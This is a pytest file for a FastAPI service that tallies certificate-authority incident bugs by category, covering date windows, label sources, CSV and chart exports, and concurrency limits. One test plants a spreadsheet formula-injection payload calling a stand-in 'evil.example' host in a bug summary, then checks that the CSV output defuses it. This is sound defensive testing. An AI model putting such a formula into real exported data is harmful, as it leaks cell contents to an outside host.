"""GET /aggregate: the briefing table, its window rules, label sources, CSV and bad windows."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from fastapi.testclient import TestClient

from classifier import ca_written_in_summary
from core.bugzilla import BugRecord
from core.db import session_scope
from core.store import save_prediction, upsert_bugs
from service.briefing_slots import BriefingSlots
from tests.fixtures import new_bug

WINDOW_2019 = {"start": "2019-01-01", "end": "2019-12-31"}


def _expected(bugs, taxonomy, start: str, end: str) -> dict[str, tuple[int, list[str]]]:
    """Rows computed from the bugs' whiteboards: the small snapshot's bugs have only comment 0
    (their last comment is their filing) and no resolution time. CAs as the summaries write them."""
    rows: dict[str, set[tuple[int, str]]] = {c: set() for c in taxonomy.categories}
    for bug in bugs:
        if start <= bug["creation_time"][:10] <= end:
            tags = taxonomy.parse_whiteboard(bug["whiteboard"]).types
            for category in taxonomy.categories_of(tags):
                rows[category].add((bug["id"], ca_written_in_summary(bug["summary"])))
    return {c: (len(members), sorted({ca for _, ca in members}, key=str.lower))
            for c, members in rows.items()}


def test_aggregate_incidents(client: TestClient, store, fixture_bugs, taxonomy):
    response = client.get("/aggregate", params=WINDOW_2019)
    assert response.status_code == 200
    body = response.json()
    expected = _expected(fixture_bugs, taxonomy, "2019-01-01", "2019-12-31")
    assert [r["category"] for r in body["rows"]] == list(taxonomy.categories)
    assert {r["category"]: (r["incidents"], r["cas"]) for r in body["rows"]} == expected
    in_window = [b for b in fixture_bugs if b["creation_time"].startswith("2019")]
    assert body["total"] == len(in_window) == 12
    assert body["category_entries"] == sum(n for n, _ in expected.values()) == 13
    assert body["sources"] == {"correction": 0, "bugzilla": 12, "model": 0, "none": 0}
    # The small snapshot's bugs have only comment 0: their last comment is their filing.
    assert {r["rule"]: r["incidents"] for r in body["rules"]} == {
        "still_open": 0, "resolved_at": 0, "last_comment": 12, "created_in_window": 0}
    ids = {r["category"]: r["incident_ids"] for r in body["rows"]}
    assert sorted(i for row in ids.values() for i in row) == sorted(
        b["id"] for b in in_window for _ in taxonomy.categories_of(
            taxonomy.parse_whiteboard(b["whiteboard"]).types))
    assert body["start"] == "2019-01-01T00:00:00Z"
    assert body["end"].startswith("2019-12-31T23:59:59")
    assert body["model_version"] == "v1"


def test_aggregate_incidents_csv(client: TestClient, store, fixture_bugs, taxonomy):
    as_json = client.get("/aggregate", params=WINDOW_2019).json()
    response = client.get("/aggregate", params={**WINDOW_2019, "format": "csv"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    # Not the report CSV's name, which holds more (the previous period, the ids).
    assert "briefing-table_2019-01-01_2019-12-31.csv" in response.headers["content-disposition"]
    report = client.get("/report", params={**WINDOW_2019, "format": "csv"})
    assert "briefing_2019-01-01_2019-12-31.csv" in report.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert list(rows[0]) == ["category", "incidents", "from_correction", "from_bugzilla",
                             "from_model", "cas"]
    assert [(r["category"], int(r["incidents"]), r["cas"]) for r in rows[:-1]] == [
        (r["category"], r["incidents"], "; ".join(r["cas"])) for r in as_json["rows"]]
    assert rows[-1]["category"].startswith("All incidents")
    assert int(rows[-1]["incidents"]) == as_json["total"]


def test_aggregate_incidents_without_model(client_without_model: TestClient, store):
    response = client_without_model.get("/aggregate", params=WINDOW_2019)
    assert response.status_code == 200
    assert response.json()["total"] == 12
    assert response.json()["model_version"] is None


def test_aggregate_incidents_window_rules(client: TestClient, maintainer_no_bugs):
    comments = [{"count": 0, "text": "report"},
                {"count": 1, "text": "", "creation_time": "2019-03-01T00:00:00Z"}]
    bugs = {
        1: new_bug(1, creation_time="2018-06-01T00:00:00Z", cf_last_resolved="2019-02-01T00:00:00Z",
                   whiteboard="[crl-failure]"),                     # resolved in the window
        2: new_bug(2, creation_time="2018-06-01T00:00:00Z", cf_last_resolved="2018-12-31T23:00:00Z",
                   whiteboard="[crl-failure]"),                     # resolved before it
        3: new_bug(3, creation_time="2018-06-01T00:00:00Z", status="NEW", resolution=""),
        4: new_bug(4, creation_time="2018-06-01T00:00:00Z"),         # closed, no resolution time
        5: new_bug(5, creation_time="2020-01-01T00:00:00Z", status="ASSIGNED", resolution=""),  # filed after
        6: new_bug(6, creation_time="2019-12-31T23:00:00Z"),         # the last day counts whole
        7: new_bug(7, creation_time=None),                           # undated: filed when received
        8: {**new_bug(8, creation_time="2018-06-01T00:00:00Z"), "comments": comments},  # last comment
    }
    del bugs[8]["description"]
    response = client.post("/classify/batch", json={"bugs": list(bugs.values())},
                           headers=maintainer_no_bugs)
    assert response.status_code == 200
    body = client.get("/aggregate", params=WINDOW_2019).json()
    assert body["total"] == 4
    assert {r["rule"]: r["incidents"] for r in body["rules"]} == {
        "still_open": 1, "resolved_at": 1, "last_comment": 1, "created_in_window": 1}
    assert body["sources"] == {"correction": 0, "bugzilla": 1, "model": 3, "none": 0}
    assert body["undated"] == 1 and body["filed_when_received"] == 0  # received now, not in 2019
    crl = next(r for r in body["rows"] if r["category"] == "CRL Failures")
    assert crl["incidents"] >= 1 and crl["sources"]["bugzilla"] == 1 and 1 in crl["incident_ids"]
    assert client.get("/incidents/8").json()["last_comment_time"] == "2019-03-01T00:00:00Z"

    before_noon = client.get("/aggregate", params={"start": "2019-01-01",
                                                   "end": "2019-12-31T12:00:00Z"}).json()
    assert before_noon["total"] == 3
    received = client.get("/aggregate", params={"start": "2019-01-01", "end": "9999-12-31"}).json()
    assert received["filed_when_received"] == 1 and received["total"] == 6


def test_aggregate_incidents_merges_ca_aliases(client: TestClient, maintainer_no_bugs):
    summaries = {1: "Comodo: OCSP responder down", 2: "Sectigo: OCSP responses late",
                 3: "Dhimyotis / Certigna: OCSP outage", 4: "Certigna: OCSP malformed"}
    bugs = [new_bug(i, summary=s, creation_time="2019-05-05T00:00:00Z", whiteboard="[ocsp-failure]")
            for i, s in summaries.items()]
    assert client.post("/classify/batch", json={"bugs": bugs},
                       headers=maintainer_no_bugs).status_code == 200
    body = client.get("/aggregate", params=WINDOW_2019).json()
    ocsp = next(r for r in body["rows"] if r["category"] == "OCSP Failures")
    assert ocsp["cas"] == ["Certigna", "Sectigo"]
    assert ocsp["ca_counts"] == {"Certigna": 2, "Sectigo": 2} == body["ca_counts"]


def _record(bug_id: int, taxonomy, whiteboard: str = "") -> BugRecord:
    return BugRecord.from_rest(new_bug(bug_id, creation_time="2019-05-05T00:00:00Z",
                                       whiteboard=whiteboard), None, taxonomy)


def test_aggregate_incidents_label_precedence(client: TestClient, service_settings, taxonomy):
    with session_scope(service_settings.database_url) as session:
        upsert_bugs(session=session, records=[_record(1, taxonomy, "[ev-misissuance]"),
                                              _record(2, taxonomy), _record(3, taxonomy),
                                              _record(4, taxonomy, "[ca-compliance]")])

        def predict(bug_id: int, version: str, tags: list[str], day: int) -> None:
            row = save_prediction(session=session, incident_id=bug_id, model_version=version,
                                  tags=tags, scores={}, needs_review=False, confidence=0.9)
            row.created_at = datetime(2024, 1, day, tzinfo=UTC)

        predict(1, "v1", ["crl-failure"], 1)       # Bugzilla's tags win
        predict(2, "v1", ["crl-failure"], 1)       # the active version wins ...
        predict(2, "v9", ["ocsp-failure"], 2)      # ... over a later one
        predict(3, "v7", ["ev-misissuance"], 1)    # no active prediction: the latest wins
        predict(3, "v8", ["ocsp-failure"], 2)
        # bug 4: meta tags only and no prediction, so no label
    body = client.get("/aggregate", params=WINDOW_2019).json()
    rows = {r["category"]: r for r in body["rows"]}
    assert body["total"] == 4
    assert body["sources"] == {"correction": 0, "bugzilla": 1, "model": 2, "none": 1}
    assert rows["EV Misissuance"]["incidents"] == 1
    assert rows["EV Misissuance"]["sources"] == {"correction": 0, "bugzilla": 1, "model": 0}
    assert rows["CRL Failures"]["incidents"] == 1
    assert rows["OCSP Failures"]["incidents"] == 1
    assert body["uncategorised"] == 1
    assert client.get("/incidents/2").json()["label"] == {
        "source": "model", "tags": ["crl-failure"], "categories": ["CRL Failures"],
        "model_version": "v1"}


BAD_WINDOWS = {
    "no start": ({"end": "2019-12-31"}, ["query", "start"]),
    "no end": ({"start": "2019-01-01"}, ["query", "end"]),
    "start not a date": ({"start": "last year", "end": "2019-12-31"}, ["query", "start"]),
    "impossible end": ({"start": "2019-01-01", "end": "2019-02-30"}, ["query", "end"]),
    "start after end": ({"start": "2020-01-01", "end": "2019-12-31"}, ["query", "start"]),
    "start out of range": ({"start": "0001-01-01T00:00:00+14:00", "end": "2019-12-31"},
                           ["query", "start"]),
    "start too long": ({"start": "2019-01-01" * 10, "end": "2019-12-31"}, ["query", "start"]),
    "unknown format": ({**WINDOW_2019, "format": "xml"}, ["query", "format"]),
}
CHARTS = ["/aggregate/chart.png", "/aggregate/chart.svg", "/report"]


@pytest.mark.parametrize("path", ["/aggregate", *CHARTS])
@pytest.mark.parametrize("params, loc", BAD_WINDOWS.values(), ids=BAD_WINDOWS.keys())
def test_aggregate_incidents_bad_window(client: TestClient, path, params, loc):
    if path != "/aggregate" and params.get("format") == "xml":
        loc = ["query", "format"] if path == "/report" else None
    response = client.get(path, params=params)
    if loc is None:  # the charts take no format: it is ignored
        assert response.status_code == 200
        return
    assert response.status_code == 422, response.text
    error = response.json()["detail"][0]
    assert error["loc"] == loc and error["msg"]


def test_aggregate_chart(client: TestClient, store):
    png = client.get("/aggregate/chart.png", params=WINDOW_2019)
    assert png.status_code == 200 and png.headers["content-type"] == "image/png"
    assert png.content.startswith(b"\x89PNG\r\n\x1a\n")
    svg = client.get("/aggregate/chart.svg", params=WINDOW_2019)
    assert svg.status_code == 200 and svg.headers["content-type"].startswith("image/svg+xml")
    assert "Chart based on 12 open incidents between January 1, 2019, and December 31, 2019" in svg.text
    assert "briefing_2019-01-01_2019-12-31.svg" in svg.headers["content-disposition"]


@pytest.mark.parametrize("path", ["/aggregate", *CHARTS])
def test_aggregate_incidents_whole_range(client: TestClient, store, path):
    response = client.get(path, params={"start": "0001-01-01", "end": "9999-12-31"})
    assert response.status_code == 200
    if path == "/aggregate":
        assert response.json()["total"] == 48


def _resolved(bug_id: int, resolution: str) -> dict:
    return new_bug(bug_id, creation_time="2019-05-05T00:00:00Z", whiteboard="[ev-misissuance]",
                   resolution=resolution)


RESOLUTIONS = {1: "FIXED", 2: "DUPLICATE", 3: "INVALID", 4: "WONTFIX", 5: "duplicate"}


def test_csv_cells_a_spreadsheet_would_run_are_text(client: TestClient, maintainer_no_bugs):
    """A CA name is what a summary writes before its colon, and anyone can file a bug: a
    security review's `=HYPERLINK(...)` became a live formula in both CSVs."""
    formula = '=HYPERLINK("https"&CHAR(58)&"//evil.example/"&A1,"x")'  # no colon: all of it is the CA
    bug = new_bug(7, summary=f"{formula}: EV certificate misissued", whiteboard="[ev-misissuance]",
                  creation_time="2019-05-05T00:00:00Z")
    assert client.post("/classify/batch", json={"bugs": [bug]}, headers=maintainer_no_bugs).status_code == 200
    table = list(csv.DictReader(io.StringIO(
        client.get("/aggregate", params={**WINDOW_2019, "format": "csv"}).text)))
    assert {r["category"]: r["cas"] for r in table}["EV Misissuance"] == f"'{formula}"
    report = list(csv.reader(io.StringIO(client.get("/report", params={**WINDOW_2019, "format": "csv"}).text)))
    cells = [cell for row in report for cell in row if "HYPERLINK" in cell]
    assert cells and all(cell.startswith("'=") for cell in cells)


def test_aggregate_incidents_leaves_out_duplicates_and_invalid(client: TestClient,
                                                               maintainer_no_bugs):
    response = client.post("/classify/batch",
                           json={"bugs": [_resolved(i, r) for i, r in RESOLUTIONS.items()]},
                           headers=maintainer_no_bugs)
    assert response.status_code == 200
    body = client.get("/aggregate", params=WINDOW_2019).json()
    # A duplicate is counted once, under the bug it duplicates; an invalid bug is no incident.
    assert body["total"] == 2
    assert body["excluded"] == {"DUPLICATE": 2, "INVALID": 1}
    assert {r["category"]: r["incidents"] for r in body["rows"]}["EV Misissuance"] == 2
    table = client.get("/aggregate", params={**WINDOW_2019, "format": "csv"}).text
    assert table.splitlines()[-1].startswith("All incidents (distinct),2,")
    # The bugs are still stored and can be read one by one.
    assert client.get("/incidents/2").status_code == 200


def test_aggregate_incidents_excluded_resolutions_setting(make_client, models_dir,
                                                          maintainer_no_bugs):
    client = make_client(briefing_excluded_resolutions=["WONTFIX"])
    response = client.post("/classify/batch",
                           json={"bugs": [_resolved(i, r) for i, r in RESOLUTIONS.items()]},
                           headers=maintainer_no_bugs)
    assert response.status_code == 200
    body = client.get("/aggregate", params=WINDOW_2019).json()
    assert body["total"] == 4
    assert body["excluded"] == {"WONTFIX": 1}


def test_briefings_counted_at_once_are_bounded(client: TestClient, store):
    """Each briefing holds its period's incidents in memory, and nothing bounded how many a
    worker counted at once: past INCIDENTS_BRIEFING_CONCURRENCY, one waits, then is told to
    come back (503, Retry-After) before it reads anything."""
    assert client.app.state.briefing_slots.n == 2  # type: ignore[attr-defined]  # the default
    slots = BriefingSlots(1, wait=0.05)
    client.app.state.briefing_slots = slots  # type: ignore[attr-defined]
    routes = [("/aggregate", {}), ("/aggregate/chart.svg", {}), ("/report", {"format": "csv"}),
              ("/", {})]
    with slots.held():  # one briefing being counted
        for path, extra in routes:
            busy = client.get(path, params={**WINDOW_2019, **extra})
            assert busy.status_code == 503, (path, busy.text)
            assert busy.headers["Retry-After"] == "5"
            assert "1 briefings are being counted in this worker (INCIDENTS_BRIEFING_CONCURRENCY)" \
                in busy.text
    for path, extra in routes:  # the slot is free again, and each route gave its own back
        assert client.get(path, params={**WINDOW_2019, **extra}).status_code == 200, path
